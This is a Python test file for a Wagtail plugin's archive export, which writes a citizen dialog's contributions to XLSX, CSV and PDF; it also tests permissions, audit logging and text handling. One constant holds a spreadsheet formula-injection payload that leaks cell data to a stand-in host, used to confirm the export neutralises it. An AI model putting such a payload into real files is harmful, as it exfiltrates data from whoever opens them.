"""The archive export of a dialog (issue 14): XLSX and CSV of every
contribution in every status with every field, and a printable PDF of the page
and its contributions; only for those who moderate the dialog and see its
personal data; each export recorded in the page's history."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import capfirst
from pypdf import PdfReader
from wagtail.models import PageLogEntry

from tests.factories import make_contribution
from tests.test_permissions import *  # noqa: F403  (the shared fixtures)
from tests.test_permissions import EMAIL, NAME, make_group, make_user, outcome
from wagtail_dialog.admin.archive import archive_buttons
from wagtail_dialog.contributions import Contribution, ContributionStatus
from wagtail_dialog.dialogs.pages import DialogPage
from wagtail_dialog.dialogs.pages.lists import DialogScopeLimit
from wagtail_dialog.privacy import archive

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
#: Control characters (what a database stores: PostgreSQL refuses NUL), emoji, right-to-left
#: text (Hebrew, Arabic) with an override, a noncharacter, and markup that must stay text.
STRANGE = "Bänk\x07\x0b\x1b\x7f – 😀🇸🇪 שלום עולם مرحبا بكم \u202edlrow\u202c \uffff <b>inte fet</b> &amp; <br/> slut"


def archive_url(dialog):
    return reverse("wagtail_dialog_archive", args=[dialog.pk])


def heading(model, name):
    """A column's heading as the archive writes it: in the dialog's language, Swedish here."""
    with translation.override("sv"):
        return str(capfirst(model._meta.get_field(name).verbose_name))


def take(client, dialog, export_format):
    response = client.post(archive_url(dialog), {"format": export_format})
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content)


def xlsx_table(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(header, row)) for row in rows]


def csv_table(content):
    assert content.startswith("\ufeff".encode())
    header, *rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [dict(zip(header, row)) for row in rows]


def pdf_text(content):
    assert content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(content))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


@pytest.fixture
def every_status(dialog_a, users):
    """One contribution in each status, each with personal data; the published one answered."""
    made = {}
    for number, status in enumerate(ContributionStatus.values):
        made[status] = make_contribution(
            dialog_a, text=f"Synpunkt {number}: fler bänkar på torget.", status=status,
            name=f"{NAME} {number}", email=f"person{number}@example.com", relation="lives", area="Centrum",
            channel="web", language="sv", consent_notice_version="2026-1",
        )
    published = made[ContributionStatus.PUBLISHED]
    published.reply, published.reply_signature = "Tack, vi tar med det.", "Kommunstyrelsen"
    published.replied_at = timezone.now()
    published.moderator_note = "Ring tillbaka."
    published.moderated_by = users["moderator_a"]
    published.save()
    published.tags.add("bänkar")
    rejected = made[ContributionStatus.REJECTED]
    rejected.moderation_reason, rejected.message_to_author = "off-topic", "Skriv i dialogen om skolan."
    rejected.save()
    return made


@pytest.fixture
def archivist(users, login):
    """Moderates Torget A and sees its personal data."""
    return login(users["moderator_a"])


@pytest.fixture
def page_editor(django_user_model, users, login, dialog_a):
    """Edits and publishes Torget A, and sees its personal data: who opens the page's history."""
    group = make_group(
        "Torget editors", pages=[(dialog_a, ["change", "publish"])], perms=["wagtail_dialog.view_personal_data"]
    )
    return login(make_user(django_user_model, "page_editor", groups=[group]))


def test_the_xlsx_holds_every_contribution_of_every_status_with_every_field(archivist, every_status, dialog_a):
    response, content = take(archivist, dialog_a, "xlsx")
    assert response["Content-Type"] == archive.FORMATS["xlsx"]
    assert f'filename="arkiv-torget-a-{timezone.localdate():%Y-%m-%d}.xlsx"' in response["Content-Disposition"]
    rows = {row[heading(Contribution, "reference")]: row for row in xlsx_table(content)}
    assert set(rows) == {contribution.reference for contribution in every_status.values()}
    for number, contribution in enumerate(every_status.values()):
        row = rows[contribution.reference]
        assert row[heading(Contribution, "name")] == f"{NAME} {number}"
        assert row[heading(Contribution, "email")] == f"person{number}@example.com"
        assert row[heading(Contribution, "language")] == "sv"
        assert row[heading(Contribution, "consent_notice_version")] == "2026-1"
    with translation.override("sv"):
        statuses = {str(label) for label in ContributionStatus.labels}
    assert {row[heading(Contribution, "status")] for row in rows.values()} == statuses
    published = rows[every_status[ContributionStatus.PUBLISHED].reference]
    assert published[heading(Contribution, "reply")] == "Tack, vi tar med det."
    assert published[heading(Contribution, "moderator_note")] == "Ring tillbaka."
    assert published[heading(Contribution, "moderated_by")] == "moderator_a"
    rejected = rows[every_status[ContributionStatus.REJECTED].reference]
    assert rejected[heading(Contribution, "message_to_author")] == "Skriv i dialogen om skolan."
    # Nothing of the search helpers: they only repeat the text.
    assert not {"search_terms", "moderator_search_terms"} & set(published)


def test_the_csv_parses_to_the_same_rows(archivist, every_status, dialog_a, dialog_b):
    make_contribution(dialog_b, text="Mer ljus i parken.", name=NAME, email=EMAIL)  # another dialog's
    response, content = take(archivist, dialog_a, "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert f"arkiv-torget-a-{timezone.localdate():%Y-%m-%d}.csv" in response["Content-Disposition"]
    rows = csv_table(content)
    assert sorted(row[heading(Contribution, "reference")] for row in rows) == sorted(
        contribution.reference for contribution in every_status.values()
    )
    assert {row[heading(Contribution, "email")] for row in rows} == {
        f"person{number}@example.com" for number in range(len(every_status))
    }


def test_the_pdf_holds_the_page_and_every_contribution(archivist, every_status, dialog_a):
    DialogScopeLimit.objects.create(page=dialog_a, fixed="Torgets storlek", reason="plan", sort_order=0)
    DialogPage.objects.filter(pk=dialog_a.pk).update(
        decided_on=datetime.date(2026, 5, 4), decision_summary="Fler bänkar ställs ut."
    )
    response, content = take(archivist, dialog_a, "pdf")
    assert response["Content-Type"] == "application/pdf"
    assert f"arkiv-torget-a-{timezone.localdate():%Y-%m-%d}.pdf" in response["Content-Disposition"]
    reader, text = pdf_text(content)
    assert reader.metadata.title == "Torget A"
    assert reader.trailer["/Root"]["/Lang"] == "sv"
    for expected in ("Torget A", dialog_a.question, "Torgets storlek", "Kommunstyrelsen", "Fler bänkar ställs ut.",
                     "Tack, vi tar med det.", f"{NAME} 0", "person3@example.com"):
        assert expected in text, expected
    for contribution in every_status.values():
        assert contribution.reference in text


def test_hostile_text_is_neutralised_in_the_spreadsheets_and_printed_in_the_pdf(archivist, dialog_a):
    contribution = make_contribution(dialog_a, text=HOSTILE + " " + STRANGE, name="@SUM(A1:A9)", email=EMAIL,
                                     area="-2+3", moderator_note="+46 70 123")
    rows = xlsx_table(take(archivist, dialog_a, "xlsx")[1])
    row = rows[0]
    assert row[heading(Contribution, "text")].startswith("'=HYPERLINK(")
    assert row[heading(Contribution, "name")] == "'@SUM(A1:A9)"
    assert row[heading(Contribution, "area")] == "'-2+3"
    assert row[heading(Contribution, "moderator_note")] == "'+46 70 123"
    row = csv_table(take(archivist, dialog_a, "csv")[1])[0]
    assert row[heading(Contribution, "text")].startswith("'=HYPERLINK(")
    assert row[heading(Contribution, "name")] == "'@SUM(A1:A9)"

    _, text = pdf_text(take(archivist, dialog_a, "pdf")[1])
    assert contribution.reference in text
    assert "=HYPERLINK(" in text
    # Markup in the text is printed as written, not obeyed.
    assert "<b>inte fet</b> &amp; <br/>" in text
    assert "Bänk" in text and "slut" in text


def test_without_dejavu_on_the_server_the_font_reportlab_ships_prints_it_all_the_same(monkeypatch, archivist,
                                                                                      dialog_a):
    monkeypatch.setattr(archive, "FONT_CANDIDATES", [("/nowhere/DejaVuSans.ttf", "/nowhere/DejaVuSans-Bold.ttf")])
    regular, bold = archive._font_files()
    assert regular.endswith("Vera.ttf") and bold.endswith("VeraBd.ttf")
    contribution = make_contribution(dialog_a, text=STRANGE + " Sámi: čđŋšŧž, Polski: łóść", name="Åsa Öberg")
    reader, text = pdf_text(take(archivist, dialog_a, "pdf")[1])
    fonts = {font["/BaseFont"] for font in reader.pages[0]["/Resources"]["/Font"].values()}
    assert any("Vera" in str(name) for name in fonts), fonts
    assert contribution.reference in text and "Åsa Öberg" in text


def test_long_texts_wrap_and_many_contributions_break_pages(archivist, dialog_a):
    long_text = " ".join(["Torget behöver fler bänkar, mer grönska och bättre belysning på kvällarna."] * 300)
    unbroken = "x" * 5000  # one "word" wider than the page
    first = make_contribution(dialog_a, text=long_text, name=NAME)
    last = make_contribution(dialog_a, text=unbroken)
    for number in range(60):
        make_contribution(dialog_a, text=f"Kort synpunkt nummer {number}.")
    reader, text = pdf_text(take(archivist, dialog_a, "pdf")[1])
    assert len(reader.pages) > 5
    assert first.reference in text and last.reference in text
    assert "Kort synpunkt nummer 59." in text


def test_a_dialog_without_contributions_says_so(archivist, dialog_a):
    _, text = pdf_text(take(archivist, dialog_a, "pdf")[1])
    with translation.override("sv"):
        from django.utils.translation import gettext

        assert gettext("No contributions were sent to this dialog.") in text
    assert xlsx_table(take(archivist, dialog_a, "xlsx")[1]) == []


def test_each_export_is_recorded_in_the_page_history(archivist, page_editor, users, every_status, dialog_a):
    take(archivist, dialog_a, "pdf")
    take(archivist, dialog_a, "csv")
    entries = PageLogEntry.objects.filter(page=dialog_a, action=archive.LOG_ACTION).order_by("timestamp", "pk")
    assert [(entry.data["format"], entry.data["contributions"], entry.user) for entry in entries] == [
        ("pdf", 4, users["moderator_a"]), ("csv", 4, users["moderator_a"]),
    ]
    with translation.override("en"):
        assert entries[0].message == "Archive export taken (PDF, 4 contributions)"
    # The page lists them, and so does the page's history.
    page = archivist.get(archive_url(dialog_a))
    assert page.status_code == 200
    assert page.content.decode().count("<td>CSV</td>") == 1
    history = page_editor.get(reverse("wagtailadmin_pages:history", args=[dialog_a.pk]))
    assert "Archive export taken (CSV, 4 contributions)" in history.content.decode()


def test_an_unknown_format_writes_nothing_and_records_nothing(archivist, dialog_a):
    response = archivist.post(archive_url(dialog_a), {"format": "docx"})
    assert response.status_code == 302 and response["Location"] == archive_url(dialog_a)
    assert not PageLogEntry.objects.filter(action=archive.LOG_ACTION).exists()
    with pytest.raises(ValueError, match="docx"):
        archive.write(dialog_a, "docx", io.BytesIO())


@pytest.fixture
def more_users(django_user_model, users, dialog_a, dialog_b):
    """A moderator of B who sees personal data, and one of A who does not."""
    b_with_data = make_group(
        "Parken data", pages=[(dialog_b, ["publish"])], perms=["wagtail_dialog.view_personal_data"]
    )
    a_without_data = make_group("Torget without data", pages=[(dialog_a, ["publish"])])
    return {
        **users,
        "moderator_b_with_data": make_user(django_user_model, "moderator_b_with_data", groups=[b_with_data]),
        "moderator_a_without_data": make_user(django_user_model, "moderator_a_without_data", groups=[a_without_data]),
    }


#: Who may take Torget A's archive export.
ACCESS = {
    "anonymous": "login",
    "resident": "login",
    "editor": "denied",
    "moderator_a": "ok",
    "moderator_b": "not found",
    "moderator_b_with_data": "not found",
    "moderator_a_without_data": "denied",
    "superuser": "ok",
}


@pytest.mark.parametrize("who", ACCESS)
def test_only_who_moderates_the_dialog_and_sees_its_personal_data_may_take_it(who, more_users, login, dialog_a,
                                                                              contribution_a):
    client = login(more_users[who])
    assert outcome(client.get(archive_url(dialog_a))) == ACCESS[who]
    response = client.post(archive_url(dialog_a), {"format": "xlsx"})
    assert outcome(response) == ACCESS[who]
    assert PageLogEntry.objects.filter(action=archive.LOG_ACTION).exists() == (ACCESS[who] == "ok")
    assert bool(list(archive_buttons(dialog_a, more_users[who] or _anonymous()))) == (ACCESS[who] == "ok")


def _anonymous():
    from django.contrib.auth.models import AnonymousUser

    return AnonymousUser()


def test_a_missing_dialog_is_not_found(archivist):
    assert archivist.get(reverse("wagtail_dialog_archive", args=[987654])).status_code == 404


def test_reached_from_the_page_and_from_the_inbox_filtered_to_the_dialog(page_editor, users, login, dialog_a,
                                                                          contribution_a):
    archivist = page_editor
    edit = archivist.get(reverse("wagtailadmin_pages:edit", args=[dialog_a.pk]))
    assert archive_url(dialog_a) in edit.content.decode()
    # The listing of the dialogs: the "more" menu of each row.
    listing = login(users["superuser"]).get(reverse("wagtailadmin_explore", args=[dialog_a.get_parent().pk]))
    assert archive_url(dialog_a) in listing.content.decode()
    inbox = archivist.get(reverse("wagtail_dialog_contributions:index"), {"dialog": dialog_a.pk})
    assert archive_url(dialog_a) in inbox.content.decode()
    unfiltered = archivist.get(reverse("wagtail_dialog_contributions:index"))
    assert archive_url(dialog_a) not in unfiltered.content.decode()


def test_the_file_name_is_ascii_with_the_date(dialog_a):
    dialog_a.slug = "torget-åäö"
    assert archive.filename(dialog_a, "pdf", datetime.date(2026, 3, 9)) == "arkiv-torget-aao-2026-03-09.pdf"


def test_the_staff_who_handled_a_contribution_are_in_the_archive_not_in_a_persons_copy(db):
    from wagtail_dialog.contributions import exports

    staff = {"moderated_by", "replied_by", "registered_by"}
    assert staff <= {column.key for column in archive.columns()}
    assert not staff & {column.key for column in exports.every_column(Contribution)}
